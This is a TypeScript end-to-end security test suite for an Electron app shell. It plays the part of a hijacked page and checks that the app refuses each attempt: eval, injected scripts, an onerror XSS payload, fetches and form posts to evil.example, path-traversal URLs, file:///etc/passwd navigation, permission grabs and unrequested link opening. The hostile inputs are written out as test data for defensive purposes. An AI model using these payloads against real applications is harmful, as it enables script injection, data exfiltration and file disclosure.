import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expectThat, until } from '../e2e/story/story.ts';
import type { Checks } from './checks.ts';
import { WEB_PREFERENCES_EXPECTED } from './expected.ts';
import { launch, type ShellApp } from './launch.ts';

/** What a page that was taken over would try; each attempt in the real page of the real shell. */
export async function attacks({ check }: Checks, home: string): Promise<void> {
  const app = await launch({ home });
  const { page } = app;
  try {
    await page.getByRole('heading', { name: 'Entail' }).waitFor();
    await check('67: the page has nothing of Node', async () => {
      const found = await page.evaluate(() =>
        ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'ipcRenderer'].filter(
          (name) => name in globalThis,
        ),
      );
      expectThat(found.length === 0, `it has ${found.join(', ')}`);
      const bridge = await page.evaluate(() =>
        Object.keys((window as Bridged).entail ?? {})
          .sort()
          .join(),
      );
      expectThat(bridge === 'connect,openLink', `the bridge has ${bridge}`);
    });
    await check('67: the window is as isolated as it was asked to be', async () => {
      const preferences = await app.main!.evaluate<Record<string, unknown>>(
        'electron.webContents.getAllWebContents()[0].getLastWebPreferences()',
      );
      for (const [name, wanted] of Object.entries(WEB_PREFERENCES_EXPECTED))
        expectThat(Boolean(preferences[name]) === wanted, `${name} is ${String(preferences[name])}`);
    });
    await scripts(app, check);
    await permissions(app, check);
    await requests(app, check);
    await calls(app, check);
    await downloads(app, check);
    await navigation(app, check);
    await check('what was refused is in the log, a line each', async () => {
      const log = readFileSync(join(home, 'logs', 'entail.log'), 'utf8');
      for (const event of [
        'window-denied',
        'navigation-denied',
        'page-refused',
        'ipc-refused',
        'link-refused',
      ])
        expectThat(log.includes(event), `${event} is missing`);
    });
  } finally {
    await app.close();
  }
}

type Check = Checks['check'];
/** The page's window, with what the preload script gives it. */
type Bridged = Window & { entail?: { connect(): Promise<boolean>; openLink(url: string): Promise<boolean> } };

async function scripts({ page }: ShellApp, check: Check): Promise<void> {
  const refused = (attempt: string) =>
    page.evaluate(
      (code) =>
        new Promise<boolean>((resolve) => {
          addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
          setTimeout(() => resolve(false), 1500);
          // The attempts are built from the page's own functions: text can't be evaluated, which is the point.
          const attempts: Record<string, () => unknown> = {
            // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
            eval: () => globalThis.eval('1'),
            function: () => new Function('return 1')(),
            inline: () =>
              document.body.append(Object.assign(document.createElement('script'), { text: '1' })),
            html: () => {
              document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
            },
            image: () => Object.assign(new Image(), { src: 'https://evil.example/x.png' }),
            module: () =>
              import(/* @vite-ignore */ 'https://evil.example/x.js' as string).catch(() => undefined),
            frame: () =>
              document.body.append(
                Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }),
              ),
            worker: () => new Worker('data:text/javascript,1'),
            base: () =>
              document.head.append(
                Object.assign(document.createElement('base'), { href: 'https://evil.example/' }),
              ),
            fetch: () => fetch('https://evil.example/').catch(() => undefined),
            form: () => {
              const form = Object.assign(document.createElement('form'), {
                action: 'https://evil.example/',
                method: 'post',
              });
              document.body.append(form);
              form.submit();
            },
          };
          // By a timer: what the debugger runs itself is exempt from the policy.
          setTimeout(() => {
            try {
              attempts[code]!();
            } catch {
              // A refusal may be thrown too; the policy tells of it all the same.
            }
          });
        }),
      attempt,
    );
  for (const attempt of [
    'eval',
    'function',
    'inline',
    'html',
    'image',
    'module',
    'frame',
    'worker',
    'base',
    'fetch',
    'form',
  ])
    await check(`67: the policy refuses ${attempt}`, async () => {
      expectThat(await refused(attempt), 'nothing was refused');
    });
  await check('67: a service worker can’t be registered', async () => {
    const registered = await page.evaluate(async () => {
      try {
        await navigator.serviceWorker.register('/assets/x.js');
        return true;
      } catch {
        return false;
      }
    });
    expectThat(!registered, 'it was registered');
  });
}

const TARGETS = [
  'https://evil.example/',
  'app://evil/',
  'file:///etc/passwd',
  'data:text/html,x',
  'about:blank',
];

async function navigation({ page, main }: ShellApp, check: Check): Promise<void> {
  await check('67: no window is opened and the page is never left', async () => {
    const opened = await page.evaluate(() => window.open('https://evil.example/') !== null);
    expectThat(!opened, 'a window was opened');
    for (const target of TARGETS) {
      // Through the shell: a runtime may end a page that asks for such an address, and the shell then loads it again.
      const url = await main!.evaluate<string>(`(async () => {
        const [page] = electron.webContents.getAllWebContents();
        await page.executeJavaScript('void (location.href = ' + ${JSON.stringify(JSON.stringify(target))} + ')');
        await new Promise((resolve) => setTimeout(resolve, 1000));
        return page.getURL();
      })()`);
      expectThat(url === 'app://entail/', `after ${target} it is at ${url}`);
    }
    const windows = await main!.evaluate<number>('electron.BrowserWindow.getAllWindows().length');
    expectThat(windows === 1, `there are ${windows} windows`);
  });
}

async function downloads({ main }: ShellApp, check: Check): Promise<void> {
  await check('67: nothing that the page hands out is saved', async () => {
    const tried = await main!.evaluate<string[]>(`(async () => {
      const [page] = electron.webContents.getAllWebContents();
      const tried = [];
      page.session.on('will-download', (event) => tried.push(event.defaultPrevented ? 'stopped' : 'saved'));
      await page.executeJavaScript(\`(() => {
        const link = document.createElement('a');
        link.href = URL.createObjectURL(new Blob(['x']));
        link.download = 'entail-test.txt';
        link.click();
      })()\`, true);
      for (let waited = 0; tried.length === 0 && waited < 5000; waited += 100)
        await new Promise((resolve) => setTimeout(resolve, 100));
      return tried;
    })()`);
    expectThat(tried.join() === 'stopped', `downloads: ${tried.join() || 'none was tried'}`);
  });
}

async function permissions({ page }: ShellApp, check: Check): Promise<void> {
  await check('67: every permission but copying is denied', async () => {
    const states = await page.evaluate(async () => {
      const names = [
        'geolocation',
        'notifications',
        'camera',
        'microphone',
        'midi',
        'clipboard-read',
        'persistent-storage',
      ];
      const asked = await Promise.all(
        names.map((name) =>
          navigator.permissions.query({ name: name as PermissionName }).then(
            ({ state }) => state,
            () => 'denied',
          ),
        ),
      );
      const notified = await Notification.requestPermission();
      const camera = await navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => 'granted',
        () => 'denied',
      );
      return [...asked, notified, camera];
    });
    expectThat(!states.includes('granted'), states.join());
  });
}

async function requests({ page }: ShellApp, check: Check): Promise<void> {
  const status = (url: string, init: { method?: string; headers?: Record<string, string> } = {}) =>
    page.evaluate(
      ([to, how]) =>
        fetch(to, how).then(
          (response) => response.status,
          () => 0,
        ),
      [url, init] as const,
    );
  await check('68: hostile paths of app:// are not found, other methods and ranges refused', async () => {
    for (const url of [
      '/..%2f..%2fpackage.json',
      '/%2e%2e/package.json',
      '/%5c..%5cpackage.json',
      '/%00',
      '/package.json',
      '//evil.example/',
      '/electron/main.cjs',
    ])
      expectThat([404, 0].includes(await status(url)), `${url}: ${await status(url)}`);
    expectThat((await status('/', { method: 'POST' })) === 405, 'POST is answered');
    expectThat(
      (await status('/', { headers: { Range: 'bytes=99999999-' } })) === 416,
      'a range past the end is answered',
    );
    expectThat((await status('/')) === 200, 'the page itself is not found');
  });
}

async function calls({ page, main }: ShellApp, check: Check): Promise<void> {
  await check('69: a page gets one port per load, and 10,000 calls leave the app responsive', async () => {
    const again = await page.evaluate(async () => {
      const answers = await Promise.all(
        Array.from({ length: 10_000 }, () => (window as Bridged).entail!.connect()),
      );
      return answers.filter((given) => given).length;
    });
    expectThat(again === 0, `${again} more ports were handed out`);
    await page.reload();
    await until(
      async () => (await page.getByRole('heading', { name: 'Entail' }).count()) > 0,
      'it does not come back',
    );
  });
  await check('69: the shell hears no other window, no frame and no blank page', async () => {
    const refused = await main!.evaluate<string[]>(`(async () => {
      const { ipcMain, BrowserWindow, app } = electron;
      const path = process.mainModule.require('node:path');
      const preload = path.join(app.getAppPath(), 'electron', 'preload.cjs');
      const results = [];
      const other = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true, contextIsolation: true } });
      await other.loadURL('about:blank');
      results.push(await other.webContents.executeJavaScript("window.entail ? window.entail.connect().then(() => 'heard', () => 'refused') : 'refused'"));
      other.destroy();
      return results;
    })()`);
    expectThat(
      refused.every((result) => result === 'refused'),
      refused.join(),
    );
  });
  await check('72: no link leaves without a click, nor with one that is not on the list', async () => {
    await main!.evaluate(`(() => {
      globalThis.leftWith = [];
      electron.shell.openExternal = async (url) => void globalThis.leftWith.push(url);
      electron.dialog.showMessageBox = async () => ({ response: 0, checkboxChecked: false });
    })()`);
    // What the tests evaluate counts as a click for five seconds; a script of the page's own doesn't.
    await page.waitForTimeout(6000);
    const script = await main!.evaluate<boolean>(
      `electron.webContents.getAllWebContents()[0].executeJavaScript("entail.openLink('https://huggingface.co/')")`,
    );
    expectThat(!script, 'it left without a click');
    await page.evaluate(() => {
      const links = [
        'javascript:alert(1)',
        'file:///etc/passwd',
        'https://evil.example/',
        'http://huggingface.co/',
        'https://huggingface.co/x',
      ];
      const button = Object.assign(document.createElement('button'), { textContent: 'attack' });
      button.onclick = () =>
        void Promise.all(links.map((link) => (window as Bridged).entail!.openLink(link)));
      document.body.append(button);
    });
    await page.getByRole('button', { name: 'attack' }).click();
    const left = () => main!.evaluate<string[]>('globalThis.leftWith');
    await until(async () => (await left()).length > 0, 'the good link does not leave either');
    expectThat((await left()).join() === 'https://huggingface.co/x', (await left()).join());
  });
}
